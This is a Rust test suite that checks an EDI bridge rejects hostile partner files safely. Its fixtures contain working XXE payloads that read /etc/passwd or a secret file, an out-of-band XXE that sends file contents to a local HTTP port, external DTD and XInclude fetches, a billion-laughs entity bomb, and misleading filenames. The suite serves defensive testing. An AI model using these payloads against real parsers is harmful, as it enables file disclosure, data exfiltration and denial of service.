//! Hostile files from a partner, through a real OpenSSH server and the `edi-bridge` binary:
//! XXE and DTD variants, broken encodings, NUL bytes, wrong roots and namespaces, huge text
//! nodes and attributes, deep nesting, and names made to mislead. Each one ends in `error/`
//! with a report, or — for a bad name — is refused by name and left alone; the process never
//! panics, its memory stays bounded, and nothing of the machine's files shows in any output.

mod support;

use std::fs;
use std::io::{BufWriter, Write};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use support::stand::*;
use support::standin::{OdooStandin, StandinOptions};

/// The content of a file of the stand's that hostile documents point their entities at: it
/// must never appear in any output.
const SECRET: &str = "edi-bridge-secret-0d1c5e9a";

/// What a line of `/etc/passwd` starts with.
const PASSWD: &str = "root:x:0:0";

/// Peak memory allowed for one run over one large hostile file.
const MAX_RSS_KB: u64 = 100 * 1024;

const NS: &str = "urn:edi-bridge:products:1";

/// A stand whose files really go to Odoo (the stand-in): a dry run would leave them in place.
fn real_stand() -> (Stand, OdooStandin) {
    let odoo = OdooStandin::start(StandinOptions::v18());
    let opts = odoo.options();
    let section = format!(
        "url = \"{}\"\ndatabase = \"{}\"\nlogin = \"{}\"\napi_key = \"{}\"\ntimeout = \"5s\"\n",
        odoo.url(),
        opts.database,
        opts.login,
        opts.api_key
    );
    let stand = Stand::with_odoo(&section, "");
    (stand, odoo)
}

/// A file of the stand's with [`SECRET`] in it, for entities to point at.
fn secret_file(stand: &Stand) -> PathBuf {
    let path = stand.dir.path().join("secret.txt");
    fs::write(&path, format!("{SECRET}\n")).unwrap();
    path
}

fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn utf16be(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

/// A valid one-product document, for the cases that only change its encoding or wrapping.
fn one_product() -> String {
    format!("<Products xmlns=\"{NS}\"><Product sku=\"A\"><Name>Chair</Name></Product></Products>\n")
}

/// The small hostile XML files: name and content.
fn hostile_xml(secret: &Path) -> Vec<(&'static str, Vec<u8>)> {
    let secret = secret.display();
    let decl = "<?xml version=\"1.0\"?>\n";
    let with_doctype = |doctype: String, body: &str| -> Vec<u8> {
        format!("{decl}{doctype}\n<Products xmlns=\"{NS}\">{body}</Products>\n").into_bytes()
    };
    let product = |name: &str| format!("<Product sku=\"A\"><Name>{name}</Name></Product>");
    let mut gzip = vec![0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03];
    gzip.extend_from_slice(b"\x01\x10\x00\xef\xff<Products/>");
    let cases: Vec<(&'static str, Vec<u8>)> = vec![
        (
            "doctype.xml",
            with_doctype("<!DOCTYPE Products [<!ELEMENT Products ANY>]>".into(), ""),
        ),
        (
            "xxe-passwd.xml",
            with_doctype(
                "<!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>".into(),
                &product("&x;"),
            ),
        ),
        (
            "xxe-secret.xml",
            with_doctype(
                format!("<!DOCTYPE p [<!ENTITY x SYSTEM \"file://{secret}\">]>"),
                &product("&x;"),
            ),
        ),
        (
            "xxe-relative.xml",
            with_doctype(
                "<!DOCTYPE p [<!ENTITY x SYSTEM \"../../../../../../../../etc/passwd\">]>".into(),
                &product("&x;"),
            ),
        ),
        (
            "xxe-in-attribute.xml",
            with_doctype(
                format!("<!DOCTYPE p [<!ENTITY x SYSTEM \"file://{secret}\">]>"),
                "<Product sku=\"&x;\"><Name>n</Name></Product>",
            ),
        ),
        (
            "xxe-parameter.xml",
            with_doctype(
                "<!DOCTYPE p [<!ENTITY % e SYSTEM \"file:///etc/passwd\"> %e;]>".into(),
                "",
            ),
        ),
        (
            "xxe-oob.xml",
            with_doctype(
                format!(
                    "<!DOCTYPE p [<!ENTITY % f SYSTEM \"file://{secret}\"><!ENTITY % d \
                     \"<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %d; %s;]>"
                ),
                "",
            ),
        ),
        (
            "xxe-http.xml",
            with_doctype(
                "<!DOCTYPE p [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]>".into(),
                &product("&x;"),
            ),
        ),
        (
            "external-dtd.xml",
            with_doctype(
                "<!DOCTYPE Products SYSTEM \"file:///etc/passwd\">".into(),
                &product("n"),
            ),
        ),
        (
            "external-dtd-public.xml",
            with_doctype(
                format!("<!DOCTYPE Products PUBLIC \"-//Evil//DTD//EN\" \"file://{secret}\">"),
                &product("n"),
            ),
        ),
        (
            "external-dtd-http.xml",
            with_doctype(
                "<!DOCTYPE Products SYSTEM \"http://127.0.0.1:9/products.dtd\">".into(),
                &product("n"),
            ),
        ),
        (
            "laughs.xml",
            with_doctype(
                "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\
                 <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
                    .into(),
                &product("&d;&d;&d;&d;"),
            ),
        ),
        (
            "doctype-after-comment.xml",
            with_doctype(
                format!(
                    "<!-- {} --><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
                    "c".repeat(70_000)
                ),
                &product("&x;"),
            ),
        ),
        (
            "xinclude.xml",
            format!(
                "{decl}<Products xmlns=\"{NS}\" xmlns:xi=\"http://www.w3.org/2001/XInclude\">\
                 <Product sku=\"A\"><Name><xi:include href=\"file:///etc/passwd\" parse=\"text\"/>\
                 </Name></Product></Products>\n"
            )
            .into_bytes(),
        ),
        (
            "schema-location.xml",
            format!(
                "{decl}<Products xmlns=\"{NS}\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
                 xsi:schemaLocation=\"{NS} file://{secret}\"><Product sku=\"A\"/></Products>\n"
            )
            .into_bytes(),
        ),
        (
            "undefined-entity.xml",
            format!("{decl}<Products xmlns=\"{NS}\">{}</Products>\n", product("caf&eacute;")).into_bytes(),
        ),
        (
            "bad-char-ref.xml",
            format!("{decl}<Products xmlns=\"{NS}\">{}</Products>\n", product("a&#0;b&#xD800;")).into_bytes(),
        ),
        ("utf16le-no-bom.xml", utf16le(&one_product())),
        ("utf16be-no-bom.xml", utf16be(&one_product())),
        (
            "utf16-declared-no-bom.xml",
            utf16le(&format!(
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n{}",
                one_product()
            )),
        ),
        (
            "utf16-declared-but-utf8.xml",
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n{}",
                one_product()
            )
            .into_bytes(),
        ),
        (
            "unknown-encoding.xml",
            format!(
                "<?xml version=\"1.0\" encoding=\"x-no-such-encoding\"?>\n{}",
                one_product()
            )
            .into_bytes(),
        ),
        (
            "nul-in-text.xml",
            format!("{decl}<Products xmlns=\"{NS}\">{}</Products>\n", product("a\0b")).into_bytes(),
        ),
        (
            "nul-in-tag.xml",
            format!("{decl}<Products xmlns=\"{NS}\"><Prod\0uct sku=\"A\"><Name>n</Name></Product></Products>\n")
                .into_bytes(),
        ),
        ("nul-only.xml", vec![0; 4096]),
        (
            "bad-utf8.xml",
            b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Products xmlns=\"urn:edi-bridge:products:1\"><Product sku=\"A\"><Name>caf\xe9 \xff\xfe</Name></Product></Products>\n".to_vec(),
        ),
        (
            "wrong-root.xml",
            format!("{decl}<Customers xmlns=\"{NS}\">{}</Customers>\n", product("n")).into_bytes(),
        ),
        (
            "wrong-namespace.xml",
            format!("{decl}<Products xmlns=\"urn:evil:products:1\">{}</Products>\n", product("n")).into_bytes(),
        ),
        (
            "no-namespace.xml",
            format!("{decl}<Products>{}</Products>\n", product("n")).into_bytes(),
        ),
        (
            "undeclared-prefix.xml",
            format!("{decl}<x:Products xmlns=\"{NS}\">{}</x:Products>\n", product("n")).into_bytes(),
        ),
        (
            "two-roots.xml",
            format!("{decl}<Products xmlns=\"{NS}\"/><Products xmlns=\"{NS}\"/>\n").into_bytes(),
        ),
        (
            "text-after-root.xml",
            format!("{decl}<Products xmlns=\"{NS}\"/>trailing text\n").into_bytes(),
        ),
        (
            "duplicate-attribute.xml",
            format!("{decl}<Products xmlns=\"{NS}\"><Product sku=\"A\" sku=\"B\"><Name>n</Name></Product></Products>\n")
                .into_bytes(),
        ),
        (
            "declaration-not-first.xml",
            format!("\n  {decl}{}", one_product()).into_bytes(),
        ),
        (
            "truncated.xml",
            format!("{decl}<Products xmlns=\"{NS}\">\n  <Product sku=\"A\"><Name>Cut off").into_bytes(),
        ),
        (
            "unterminated-cdata.xml",
            format!("{decl}<Products xmlns=\"{NS}\"><Product sku=\"A\"><Name><![CDATA[n").into_bytes(),
        ),
        ("empty.xml", Vec::new()),
        ("text-only.xml", b"just some text, no markup\n".to_vec()),
        ("gzip.xml", gzip),
        (
            "long-name.xml",
            format!(
                "{decl}<Products xmlns=\"{NS}\"><{} sku=\"A\"/></Products>\n",
                "P".repeat(1_000_000)
            )
            .into_bytes(),
        ),
        (
            "many-attributes.xml",
            format!(
                "{decl}<Products xmlns=\"{NS}\"><Product sku=\"A\" {}><Name>n</Name></Product></Products>\n",
                (0..20_000).map(|i| format!("a{i}=\"v\"")).collect::<Vec<_>>().join(" ")
            )
            .into_bytes(),
        ),
        (
            "deep-10k.xml",
            format!(
                "{decl}<Products xmlns=\"{NS}\"><Product sku=\"A\"><Name>n</Name>{}{}</Product></Products>\n",
                "<x>".repeat(10_000),
                "</x>".repeat(10_000)
            )
            .into_bytes(),
        ),
    ];
    cases
}

/// Stdout, stderr and every file below `dirs`: none may hold a line of the machine's files.
fn assert_nothing_leaks(what: &str, out: &Output, dirs: &[PathBuf]) {
    let mut texts = vec![
        ("stdout".to_string(), stdout(out)),
        ("stderr".to_string(), stderr(out)),
    ];
    for dir in dirs {
        for file in files_below(dir) {
            let bytes = fs::read(dir.join(&file)).unwrap();
            texts.push((file, String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    for (name, text) in texts {
        for leak in [PASSWD, SECRET] {
            assert!(!text.contains(leak), "{what}: {name} shows `{leak}`");
        }
    }
}

fn assert_no_panic(what: &str, out: &Output) {
    let err = stderr(out);
    assert!(!err.contains("panicked"), "{what}: {err}");
    assert!(
        out.status.code().is_some(),
        "{what}: ended by a signal: {:?}\n{err}",
        out.status
    );
}

/// Each of `names` is in `error` with a report that says what failed.
fn assert_in_error(error: &Path, names: &[&str], out: &Output) {
    let failed = files_in(error);
    for name in names {
        assert!(
            failed.contains(&name.to_string()),
            "{name} in error/: {failed:?}\n{}",
            stderr(out)
        );
        let report = fs::read_to_string(error.join(format!("{name}.error.txt")))
            .unwrap_or_else(|e| panic!("{name}: no report: {e}"));
        assert!(report.contains("What failed"), "{name}: {report}");
    }
}

#[test]
fn hostile_xml_files_go_to_error_with_a_report_and_leak_nothing() {
    let (stand, odoo) = real_stand();
    let secret = secret_file(&stand);
    let cases = hostile_xml(&secret);
    assert!(cases.len() >= 30, "{} cases", cases.len());
    for (name, content) in &cases {
        fs::write(stand.inbox().join(name), content).unwrap();
    }
    let started = Instant::now();
    let out = stand.run(&["run", "--once"]);
    let took = started.elapsed();
    assert_no_panic("xml", &out);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let names: Vec<&str> = cases.iter().map(|(n, _)| *n).collect();
    assert_in_error(&stand.error_dir(), &names, &out);
    assert!(
        files_in(&stand.inbox()).is_empty(),
        "every file in exactly one place: {:?}",
        files_in(&stand.inbox())
    );
    assert!(files_below(&stand.archive_dir()).is_empty());
    let written: u64 = ["create", "write", "load"]
        .iter()
        .map(|m| odoo.call_count("product.product", m))
        .sum();
    assert_eq!(written, 0, "nothing of a hostile file reaches Odoo");
    // The files in error/ are the partner's, unchanged: no entity was ever expanded.
    for (name, content) in &cases {
        assert_eq!(
            &fs::read(stand.error_dir().join(name)).unwrap(),
            content,
            "{name}"
        );
    }
    assert_nothing_leaks(
        "xml",
        &out,
        &[stand.error_dir(), stand.dir.path().join("spool")],
    );
    assert!(
        took < Duration::from_secs(60),
        "{} files took {took:?}",
        cases.len()
    );
}

#[test]
fn hostile_csv_files_go_to_error_with_a_report() {
    let (stand, _odoo) = real_stand();
    let inbox = stand.sshd.data_dir().join("out/prices");
    let header = b"sku;name;price\n";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "nul-bytes.csv",
            [header.as_slice(), b"A\0;Chair\0;1,5\n\0\0\0"].concat(),
        ),
        (
            "wrong-header.csv",
            b"root:x:0:0;name;price\nA;Chair;1,5\n".to_vec(),
        ),
        ("no-header.csv", Vec::new()),
        (
            "unterminated-quote.csv",
            [header.as_slice(), b"A;\"Chair;1,5\n"].concat(),
        ),
        (
            "not-a-number.csv",
            [header.as_slice(), b"A;Chair;lots\n"].concat(),
        ),
        ("utf16-no-bom.csv", utf16le("sku;name;price\nA;Chair;1,5\n")),
        ("binary.csv", (0..=255u8).cycle().take(8192).collect()),
    ];
    for (name, content) in &cases {
        fs::write(inbox.join(name), content).unwrap();
    }
    let out = stand.run(&["run", "--once"]);
    assert_no_panic("csv", &out);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let names: Vec<&str> = cases.iter().map(|(n, _)| *n).collect();
    assert_in_error(&inbox.join("error"), &names, &out);
    assert!(files_in(&inbox).is_empty(), "{:?}", files_in(&inbox));
    assert_nothing_leaks("csv", &out, &[]);
}

#[test]
fn misleading_names_are_refused_and_left_alone() {
    let stand = Stand::new();
    let names: Vec<&[u8]> = vec![
        b"new\nline.xml",
        b"carriage\rreturn.xml",
        b"tab\t.xml",
        b"escape\x1b[31mred.xml",
        b"delete\x7f.xml",
        b"back\\slash.xml",
        b"dots..xml",
        b"invoice\xe2\x80\xaelmx.xml",
        b"zero\xe2\x80\x8bwidth.xml",
        b"not-utf8-\xff\xfe.xml",
    ];
    let long = format!("{}.xml", "a".repeat(240));
    let mut names: Vec<Vec<u8>> = names.into_iter().map(<[u8]>::to_vec).collect();
    names.push(long.into_bytes());
    for name in &names {
        let path = stand.inbox().join(std::ffi::OsStr::from_bytes(name));
        fs::write(path, products_xml(1, "x")).unwrap();
    }
    let out = stand.run(&["run", "--once"]);
    assert_no_panic("names", &out);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let refusals = stderr(&out).matches("refused").count();
    assert!(
        refusals >= names.len(),
        "{refusals} refusals:\n{}",
        stderr(&out)
    );
    for name in &names {
        let path = stand.inbox().join(std::ffi::OsStr::from_bytes(name));
        assert!(path.exists(), "left in the inbox: {path:?}");
    }
    assert!(!stand.error_dir().exists() && !stand.archive_dir().exists());
    // A name never reaches the log raw: no newline or escape makes a line that was not written.
    for line in stderr(&out).lines() {
        assert!(
            !line.contains('\u{1b}'),
            "a raw escape in the log: {line:?}"
        );
    }
    assert!(
        !stderr(&out).lines().any(|l| l.starts_with("line.xml")),
        "a name's newline splits no log line:\n{}",
        stderr(&out)
    );
}

/// Writes `head`, then `repeat` `count` times, then `tail` to `path`, in large chunks.
fn generate(path: &Path, head: &str, repeat: &str, count: usize, tail: &str) {
    let mut f = BufWriter::with_capacity(1 << 20, fs::File::create(path).unwrap());
    f.write_all(head.as_bytes()).unwrap();
    let chunk = repeat.repeat((1 << 20) / repeat.len().max(1) + 1);
    let per_chunk = chunk.len() / repeat.len();
    let mut left = count;
    while left > 0 {
        let n = left.min(per_chunk);
        f.write_all(&chunk.as_bytes()[..n * repeat.len()]).unwrap();
        left -= n;
    }
    f.write_all(tail.as_bytes()).unwrap();
    f.flush().unwrap();
}

/// Runs `edi-bridge run --once` and measures the process's peak resident memory (KiB): with
/// GNU time where it is installed, else from `VmHWM` in /proc while the process runs.
fn run_measured(stand: &Stand) -> (Output, u64) {
    let inner = stand.command(&["run", "--once"]);
    let time = Path::new("/usr/bin/time");
    if time.exists() {
        let report = stand.dir.path().join("time.txt");
        let mut cmd = Command::new(time);
        cmd.arg("-f")
            .arg("%M")
            .arg("-o")
            .arg(&report)
            .arg(inner.get_program())
            .args(inner.get_args());
        for (k, v) in inner.get_envs() {
            if let Some(v) = v {
                cmd.env(k, v);
            }
        }
        let out = cmd.output().unwrap();
        let text = fs::read_to_string(&report).unwrap();
        let kb = text
            .lines()
            .filter_map(|l| l.trim().parse::<u64>().ok())
            .next_back()
            .unwrap_or_else(|| panic!("no peak in {text:?}"));
        return (out, kb);
    }
    let mut inner = inner;
    let child = inner
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let status = PathBuf::from(format!("/proc/{}/status", child.id()));
    let peak = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let (peak, done) = (peak.clone(), done.clone());
        std::thread::spawn(move || {
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                if let Ok(text) = fs::read_to_string(&status)
                    && let Some(kb) = text
                        .lines()
                        .find_map(|l| l.strip_prefix("VmHWM:"))
                        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
                {
                    peak.fetch_max(kb, std::sync::atomic::Ordering::Relaxed);
                }
                std::thread::sleep(Duration::from_millis(5));
            }
        })
    };
    let out = child.wait_with_output().unwrap();
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    watcher.join().unwrap();
    (out, peak.load(std::sync::atomic::Ordering::Relaxed))
}

#[test]
fn huge_hostile_files_go_to_error_in_bounded_memory() {
    let (stand, _odoo) = real_stand();
    let open = format!("<?xml version=\"1.0\"?>\n<Products xmlns=\"{NS}\">");
    type Generate = Box<dyn Fn(&Path)>;
    let cases: Vec<(&str, Generate)> = vec![
        (
            "text-node-100mb.xml",
            Box::new({
                let open = open.clone();
                move |p: &Path| {
                    generate(
                        p,
                        &format!("{open}<Product sku=\"A\"><Name>"),
                        "0123456789",
                        10_000_000,
                        "</Name></Product></Products>\n",
                    )
                }
            }),
        ),
        (
            "nested-million.xml",
            Box::new({
                let open = open.clone();
                move |p: &Path| {
                    let mut f = BufWriter::new(fs::File::create(p).unwrap());
                    f.write_all(open.as_bytes()).unwrap();
                    for _ in 0..1_000_000 {
                        f.write_all(b"<Product>").unwrap();
                    }
                    for _ in 0..1_000_000 {
                        f.write_all(b"</Product>").unwrap();
                    }
                    f.write_all(b"</Products>\n").unwrap();
                    f.flush().unwrap();
                }
            }),
        ),
        (
            "attribute-50mb.xml",
            Box::new({
                let open = open.clone();
                move |p: &Path| {
                    generate(
                        p,
                        &format!("{open}<Product sku=\""),
                        "0123456789",
                        5_000_000,
                        "\"><Name>n</Name></Product></Products>\n",
                    )
                }
            }),
        ),
    ];
    for (name, write) in &cases {
        write(&stand.inbox().join(name));
        let started = Instant::now();
        let (out, peak_kb) = run_measured(&stand);
        let took = started.elapsed();
        eprintln!("{name}: {took:?}, peak RSS {} MiB", peak_kb / 1024);
        assert_no_panic(name, &out);
        assert_eq!(code(&out), 1, "{name}: {}", stderr(&out));
        assert_in_error(&stand.error_dir(), &[name], &out);
        assert!(files_in(&stand.inbox()).is_empty(), "{name}");
        assert!(
            peak_kb < MAX_RSS_KB,
            "{name}: peak RSS {peak_kb} KiB, at most {MAX_RSS_KB} KiB"
        );
        assert_nothing_leaks(name, &out, &[]);
        let report = stand.error_dir().join(format!("{name}.error.txt"));
        let size = fs::metadata(&report).unwrap().len();
        assert!(size < 64 * 1024, "{name}: a report of {size} bytes");
        // The next case starts with a clean error folder, so its own report is checked.
        fs::remove_dir_all(stand.error_dir()).unwrap();
    }
}
